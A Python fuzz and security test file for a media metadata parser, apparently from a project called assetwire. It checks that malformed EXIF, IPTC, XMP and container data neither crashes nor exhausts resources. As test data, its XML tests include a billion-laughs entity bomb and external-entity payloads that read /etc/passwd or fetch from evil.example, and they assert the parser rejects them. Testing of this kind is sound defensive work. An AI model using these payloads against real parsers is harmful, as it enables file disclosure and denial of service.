"""Nothing in a file's metadata raises, hangs or grows: random and mutated blocks in every container."""

import contextlib
import json
import struct
import time
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from metadata_files import (
    CITY,
    GUID_UUID,
    box,
    dataset,
    gif,
    heif,
    id3,
    itxt,
    jp2,
    jpeg,
    packet,
    pdf,
    png,
    profile,
    psd,
    resource,
    riff,
    text,
    tiff,
)

from assetwire.domain.metadata import FIELDS
from assetwire.media.metadata import Extracted, parse_xmp, read_metadata
from assetwire.media.metadata.blocks import Malformed
from assetwire.media.metadata.exif import read_exif
from assetwire.media.metadata.icc import profile_name
from assetwire.media.metadata.iptc import read_iptc
from assetwire.media.metadata.locate import WALKERS

pytestmark = pytest.mark.slow  # seconds of decoding: part of make test

RATIONALS = struct.pack("<6I", 48, 1, 12, 1, 30, 0)
GPS = {1: text("N"), 2: (5, 3, RATIONALS), 3: text("E"), 4: (5, 3, RATIONALS)}
EXIF = tiff(
    {
        0x010E: text("Blüte"),
        0x0112: (3, 1, b"\6\0"),
        0x013B: text('Ann; "Bo; Co"'),
        0x8298: text(b"Ann\0Bo"),
        0x8769: (4, 1, struct.pack("<I", 8)),
        0x8825: (4, 1, struct.pack("<I", 8)),
        0x9003: text("2026:11:23 10:20:30"),
        0x9286: (7, 14, b"UNICODE\0a\0b\0c\0"),
        0x9C9B: (1, 6, b"a\0b\0\0\0"),
        700: (7, len(CITY), CITY),
    }
    | GPS
)
IIM = b"".join(dataset(int(f.iim.split(":")[1]), b"20261123") for f in FIELDS.values() if f.iim) + dataset(
    60, b"102030+0100"
)
RESOURCES = resource(0x0404, IIM) + resource(0x0425, bytes(range(16))) + resource(0x0424, CITY)
RICH = packet(
    "<dc:title><rdf:Alt><rdf:li xml:lang='x-default'>a</rdf:li><rdf:li xml:lang='de'>b</rdf:li></rdf:Alt></dc:title>"
    "<dc:subject><rdf:Bag><rdf:li>a</rdf:li></rdf:Bag></dc:subject>"
    "<Iptc4xmpExt:ProductInImage><rdf:Bag><rdf:li rdf:parseType='Resource'>"
    "<Iptc4xmpExt:ProductGTIN>1</Iptc4xmpExt:ProductGTIN></rdf:li></rdf:Bag></Iptc4xmpExt:ProductInImage>",
    "xmp:Rating='5' plus:LicenseEndDate='2026-01-01' xmpRights:Marked='True'",
)
FILES = {
    "image/jpeg": jpeg(
        (0xE1, b"Exif\0\0" + EXIF),
        (0xE1, b"http://ns.adobe.com/xap/1.0/\0" + RICH),
        (0xED, b"Photoshop 3.0\0" + RESOURCES),
        (0xE2, b"ICC_PROFILE\0\1\1" + profile("sRGB")),
    ),
    "image/png": png((b"eXIf", EXIF), itxt(RICH, compressed=True), (b"iCCP", b"a\0\0x\x9c"), (b"tEXt", b"Title\0a")),
    "image/gif": gif(RICH),
    "image/tiff": EXIF,
    "image/webp": riff(b"WEBP", (b"EXIF", EXIF), (b"XMP ", RICH), (b"ICCP", profile("sRGB"))),
    "image/heic": heif(EXIF, RICH),
    "image/vnd.adobe.photoshop": psd(RESOURCES, resource(0x0422, EXIF)),
    "image/jp2": jp2(box(b"uuid", GUID_UUID + RICH), box(b"uuid", b"JpgTiffExif->JP2" + EXIF)),
    "image/svg+xml": b"<svg xmlns='http://www.w3.org/2000/svg'>"
    + RICH[RICH.find(b"<x:") : RICH.rfind(b"<?")]
    + b"</svg>",
    "application/pdf": pdf(RICH, deflated=True),
    "video/mp4": box(b"ftyp", b"isom") + box(b"uuid", GUID_UUID + RICH),
    "video/quicktime": box(b"moov", box(b"udta", box(b"XMP_", RICH))),
    "audio/mpeg": id3(RICH),
    "audio/wav": riff(b"WAVE", (b"_PMX", RICH)),
    "application/octet-stream": bytes(9) + RICH,
}
HEADS = [b"II*\0\x08\0\0\0", b"MM\0*\0\0\0\x08", b"II+\0\x08\0\0\0\x10\0\0\0\0\0\0\0"]
TYPES = sorted(WALKERS)
TAGS = [0x010E, 0x0112, 0x829A, 0x9003, 0x9286, 0x9C9B, 0x8769, 0x8825, 1, 2, 5, 6]
KINDS = [1, 2, 3, 4, 5, 7, 9, 10, 11, 12, 16, 129]
ATTRIBUTES = ["", "dc:title='a'", "xmp:Rating='nan'", "xmp:Rating='1e999'"]
BUDGET = settings(
    max_examples=100, deadline=2_000, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)


def read(tmp_path: Path, data: bytes, media_type: str) -> Extracted:
    file = tmp_path / "hostile"
    file.write_bytes(data)
    extracted = read_metadata(file, media_type)
    said = {name: field.model_dump(mode="json") for name, field in extracted.fields.items()}
    json.dumps([said, extracted.private, extracted.technical], allow_nan=False).encode()
    assert all(warning.code and warning.message for warning in extracted.warnings)
    return extracted


@given(media_type=st.sampled_from(TYPES), data=st.binary(max_size=400))
@BUDGET
def test_random_bytes_raise_nothing(tmp_path: Path, media_type: str, data: bytes) -> None:
    read(tmp_path, data, media_type)


@given(
    media_type=st.sampled_from(sorted(FILES)),
    places=st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.binary(min_size=1, max_size=4)), max_size=6),
    cut=st.floats(0, 1),
)
@BUDGET
def test_mutated_files_raise_nothing(
    tmp_path: Path, media_type: str, places: list[tuple[float, bytes]], cut: float
) -> None:
    data = bytearray(FILES[media_type])
    for place, replacement in places:
        at = int(place * len(data))
        data[at : at + len(replacement)] = replacement
    read(tmp_path, bytes(data[: len(data) if cut > 0.5 else int(2 * cut * len(data))]), media_type)


@pytest.mark.parametrize("media_type", FILES)
def test_the_files_that_are_mutated_are_sound(tmp_path: Path, media_type: str) -> None:
    assert read(tmp_path, FILES[media_type], media_type).fields


@given(data=st.binary(max_size=300))
@example(b"\x1c\x02\x50\x80\x09" + bytes(9))
@BUDGET
def test_a_random_stream_of_datasets_raises_nothing(data: bytes) -> None:
    read_iptc(data)
    read_iptc(b"\x1c\x02" + data)


@given(
    data=st.binary(max_size=300),
    order=st.sampled_from(HEADS),
)
@BUDGET
def test_random_exif_and_profiles_are_malformed_at_worst(data: bytes, order: bytes) -> None:
    for read_block in (lambda: read_exif(order + data), lambda: profile_name(bytes(36) + b"acsp" + data)):
        with contextlib.suppress(Malformed):
            read_block()


@given(
    tags=st.dictionaries(
        st.sampled_from(TAGS),
        st.tuples(
            st.sampled_from(KINDS),
            st.integers(0, 2**32 - 1),
            st.binary(max_size=40),
        ),
    )
)
@BUDGET
def test_any_directory_is_read_as_far_as_it_makes_sense(tags: dict[int, tuple[int, int, bytes]]) -> None:
    exif = read_exif(tiff(tags))
    json.dumps([exif.technical, exif.private], allow_nan=False)


@given(
    body=st.text(max_size=200),
    attributes=st.sampled_from(ATTRIBUTES),
)
@BUDGET
def test_any_text_as_a_packet_raises_nothing(body: str, attributes: str) -> None:
    parse_xmp(packet(body, attributes))
    parse_xmp(body.encode("utf-8", "replace"))


class TestUnsafeXml:
    LAUGHS = b'<!DOCTYPE x [<!ENTITY a "lol">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )

    @pytest.mark.parametrize(
        "head",
        [
            LAUGHS + b"]>",
            b'<!DOCTYPE x SYSTEM "file:///etc/passwd">',
            b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>',
            b'<!DOCTYPE x [<!ENTITY a "' + b"A" * 100_000 + b'">]>',
        ],
    )
    def test_document_types_and_entities_are_refused_by_name(self, head: bytes) -> None:
        found = parse_xmp(head + packet("<dc:title>&j;&a;</dc:title>")[60:])
        assert found.fields == {}
        assert [warning.code for warning in found.warnings] == ["unsafe_xml"]

    @pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
    def test_no_encoding_hides_them(self, encoding: str) -> None:
        found = parse_xmp((self.LAUGHS.decode() + "]><x>&j;</x>").encode(encoding))
        assert [warning.code for warning in found.warnings] == ["unsafe_xml"]

    def test_an_svg_may_have_a_document_type_but_no_entities(self, tmp_path: Path) -> None:
        extracted = read(tmp_path, self.LAUGHS + b"]><svg>&j;</svg>", "image/svg+xml")
        assert [warning.code for warning in extracted.warnings] == ["unsafe_xml"]


class TestBounds:
    @pytest.mark.parametrize(
        "data",
        [
            packet("<dc:title>" * 100_000),
            packet("<dc:subject><rdf:Bag>" + "<rdf:li>a</rdf:li>" * 100_000 + "</rdf:Bag></dc:subject>"),
            packet("<a " + " ".join(f"b{n}='1'" for n in range(100_000)) + "/>"),
            packet("<dc:title>" + "a" * 5_000_000 + "</dc:title>"),
            packet("<dc:title>" + "&#65;" * 700_000 + "</dc:title>"),
            packet("".join(f"<dc:n{n} rdf:parseType='Resource'/>" for n in range(45_000))),
            b"<" * 4_000_000,
            b"<?xml" * 800_000,
            packet("<dc:title><![CDATA[" + "]]" * 1_000_000),
        ],
        ids=["deep", "wide", "attributes", "long", "references", "properties", "angles", "declarations", "cdata"],
    )
    def test_large_packets_cost_a_bounded_time_and_memory(self, data: bytes) -> None:
        tracemalloc.start()
        began = time.process_time()
        parse_xmp(data)
        took, (_, peak) = time.process_time() - began, tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert took < 5
        assert peak < 100 * 1024**2

    def test_what_is_too_long_costs_the_field_and_no_other(self, tmp_path: Path) -> None:
        words = "<rdf:li>a</rdf:li>" * 600
        body = f"<dc:title>{'a' * 9_000}</dc:title><dc:subject><rdf:Bag>{words}</rdf:Bag></dc:subject>"
        found = parse_xmp(packet(body, "photoshop:City='Z'"))
        assert found.fields == {"keywords": ["a"] * 500, "city": "Z"}
        assert [(warning.code, warning.field) for warning in found.warnings] == [
            ("metadata_too_long", "title"),
            ("metadata_too_long", "keywords"),
        ]

    def test_all_fields_together_are_64_kb_at_the_most(self, tmp_path: Path) -> None:
        names = ("Headline", "Credit", "Source", "Instructions", "City", "State", "Country", "CaptionWriter")
        body = "".join(f"<photoshop:{name}>{'ä' * 7_000}</photoshop:{name}>" for name in names)
        data = riff(b"WEBP", (b"XMP ", packet(body, "photoshop:Category='SPO'")))
        extracted = read(tmp_path, data, "image/webp")
        said = json.dumps({name: field.value for name, field in extracted.fields.items()}, ensure_ascii=False)
        assert len(said.encode()) <= 64 * 1024
        assert extracted.fields["category"].value == "SPO"
        assert {warning.code for warning in extracted.warnings} == {"metadata_too_long"}
        assert len(extracted.fields) + len(extracted.warnings) == len(names) + 1
